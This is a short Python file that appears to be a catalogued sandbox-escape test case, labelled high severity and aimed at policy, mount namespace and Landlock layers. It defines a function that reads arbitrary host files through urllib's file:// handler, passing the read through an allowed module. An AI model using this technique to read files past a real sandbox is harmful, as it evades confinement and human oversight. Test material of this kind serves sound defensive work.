# technique: a module whose first component is allowed
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import urllib.request

    def opener(path):
        class Text:
            def read(self):
                return urllib.request.urlopen("file://" + path).read().decode()
        return Text()
    return opener

read_host(trick)
